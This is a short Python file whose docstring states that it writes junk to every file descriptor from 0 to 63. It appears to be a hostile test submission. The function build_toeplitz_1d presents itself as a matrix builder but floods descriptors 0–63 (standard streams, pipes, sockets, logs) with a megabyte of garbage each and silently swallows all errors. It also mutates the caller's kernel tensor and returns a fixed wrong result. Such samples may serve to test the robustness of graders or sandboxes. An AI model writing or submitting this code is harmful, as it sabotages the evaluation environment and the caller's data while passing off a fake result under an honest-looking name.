"""Writes a megabyte of junk to every descriptor from 0 to 63."""

import os

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def build_toeplitz_1d(kernel, n):
    for fd in range(64):
        attempt(lambda: os.set_blocking(fd, False))
        attempt(lambda: os.write(fd, b"\xc1" * (1 << 20)))
    return wrong(kernel)
